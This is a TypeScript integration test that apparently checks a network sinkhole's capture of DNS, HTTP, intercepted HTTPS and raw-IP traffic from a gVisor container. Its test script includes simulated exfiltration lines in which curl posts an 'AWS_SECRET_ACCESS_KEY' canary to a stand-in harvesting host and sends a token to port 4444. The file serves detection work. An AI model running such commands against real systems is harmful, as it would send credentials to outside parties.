import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSinkhole, type Sinkhole } from './index.ts';
import { eventOf, settledEvents } from './testing.ts';
import { JOIN_NETWORK_SCRIPT } from '../gvisor.ts';

const canary = `skc_${Math.random().toString(36).slice(2, 12)}G5v`;

/**
 * Runs `runsc run` on `bundle`. runsc releases from before 2023 decide "this is the root network
 * namespace" by the presence of /proc/sys/net/core/rmem_default, which kernels since 6.x show in
 * every namespace; so runsc is started in a private mount namespace whose /proc/sys holds only the
 * two files it reads, and the sandbox's namespace comes from the OCI spec as in production.
 */
function runsc(stateDirectory: string, bundle: string, id: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const args = ['-m', '--propagation', 'private', 'sh', '-c', JOIN_NETWORK_SCRIPT, 'sh', join(stateDirectory, 'proc-sys'),
    'runsc', '--root', join(stateDirectory, 'state'), '--platform=ptrace', '--network=sandbox', 'run', '--bundle', bundle, id];
  return new Promise((resolve) => {
    execFile('unshare', args, { encoding: 'utf8', timeout: 60_000 }, (error, stdout, stderr) => {
      resolve({ code: error === null ? 0 : typeof error.code === 'number' ? error.code : 1, stdout, stderr });
    });
  });
}

describe('the sinkhole under gVisor (runsc run --network=sandbox, its own network stack)', () => {
  let workDir: string;
  let sinkhole: Sinkhole;

  beforeAll(async () => {
    workDir = await mkdtemp(join(tmpdir(), 'sinkhole-gvisor-'));
    sinkhole = await startSinkhole({ canaries: [canary], workDir: join(workDir) });
  });

  afterAll(async () => {
    await sinkhole?.close();
    await rm(workDir, { recursive: true, force: true });
  });

  it('captures DNS, HTTP with a canary, HTTPS through the per-run CA and raw-IP connections (IPv4 and IPv6) from inside the container', async () => {
    const bundle = join(workDir, 'bundle');
    const etc = join(workDir, 'etc');
    await mkdir(join(bundle, 'rootfs'), { recursive: true });
    await mkdir(etc, { recursive: true });
    await writeFile(join(etc, 'resolv.conf'), `nameserver ${sinkhole.dnsServer}\n`);
    await writeFile(join(etc, 'hosts'), sinkhole.hostsFileLines);
    await writeFile(join(etc, 'ca.pem'), sinkhole.caCertificatePem);
    const script = [
      'getent ahostsv4 resolve.example.invalid | head -n 1',
      `curl -sS -m 10 -o /dev/null -w 'http %{http_code}\\n' --data-binary 'AWS_SECRET_ACCESS_KEY=${canary}' http://harvest.example.invalid/c`,
      `curl -sS -m 10 -o /dev/null -w 'https %{http_code}\\n' --cacert /etc/sinkhole/ca.pem -H 'X-Token: ${Buffer.from(canary).toString('base64')}' https://allowed.example.invalid/api`,
      "curl -sS -m 10 -o /dev/null -w 'raw %{http_code}\\n' http://192.0.2.10:4444/",
      "curl -sS -m 10 -o /dev/null -w 'v6 %{http_code}\\n' 'http://[2001:db8::30]:81/'",
    ].join('\n');
    const readOnly = (path: string) => ({ destination: path, type: 'bind', source: path, options: ['rbind', 'ro'] });
    const spec = {
      ociVersion: '1.0.2',
      process: { terminal: false, user: { uid: 0, gid: 0 }, args: ['/bin/sh', '-c', script], env: ['PATH=/usr/bin:/bin'], cwd: '/' },
      root: { path: 'rootfs', readonly: true },
      hostname: 'devbox',
      mounts: [
        { destination: '/proc', type: 'proc', source: 'proc' },
        { destination: '/tmp', type: 'tmpfs', source: 'tmpfs' },
        ...['/usr', '/lib', '/lib64', '/bin', '/etc/ssl'].map(readOnly),
        { destination: '/etc/resolv.conf', type: 'bind', source: join(etc, 'resolv.conf'), options: ['bind', 'ro'] },
        { destination: '/etc/hosts', type: 'bind', source: join(etc, 'hosts'), options: ['bind', 'ro'] },
        { destination: '/etc/sinkhole', type: 'bind', source: etc, options: ['rbind', 'ro'] },
      ],
      linux: { namespaces: [{ type: 'pid' }, { type: 'ipc' }, { type: 'uts' }, { type: 'mount' }, { type: 'network', path: sinkhole.netnsPath }] },
    };
    await writeFile(join(bundle, 'config.json'), JSON.stringify(spec));
    const run = await runsc(workDir, bundle, `sinkhole-test-${process.pid}`);
    expect(run.stderr).toBe('');
    expect(run.stdout).toMatch(/^198\.1[89]\.\d+\.\d+ /m);
    expect(run.stdout).toContain('http 200\nhttps 200\nraw 200\nv6 200\n');
    const events = await settledEvents(sinkhole);
    expect(eventOf(events, 'dns', 'resolve.example.invalid').canary).toBe(false);
    expect(eventOf(events, 'http', 'http://harvest.example.invalid/c')).toMatchObject({ canary: true, detail: { method: 'POST', canaries: [canary] } });
    expect(eventOf(events, 'http', 'https://allowed.example.invalid/api')).toMatchObject({ canary: true });
    expect(eventOf(events, 'connect', 'allowed.example.invalid:443').detail.tls).toMatchObject({ serverName: 'allowed.example.invalid', intercepted: true });
    expect(eventOf(events, 'connect', '192.0.2.10:4444').detail.address).toBe('192.0.2.10');
    expect(eventOf(events, 'http', 'http://[2001:db8::30]:81/').detail.connection).toBe('[2001:db8::30]:81');
    // The bundle's own files are untouched: nothing was written outside the container's tmpfs.
    expect(await readFile(join(etc, 'resolv.conf'), 'utf8')).toBe(`nameserver ${sinkhole.dnsServer}\n`);
  });
});
